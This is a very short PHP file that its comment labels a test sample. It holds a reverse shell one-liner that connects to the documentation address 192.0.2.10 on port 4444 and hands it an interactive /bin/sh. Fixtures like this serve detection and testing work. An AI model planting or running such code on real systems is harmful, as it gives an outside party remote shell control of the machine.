<?php
// test sample: PHP reverse shell one-liner (documentation address)
$sock = fsockopen("192.0.2.10", 4444);
exec("/bin/sh -i <&3 >&3 2>&3");
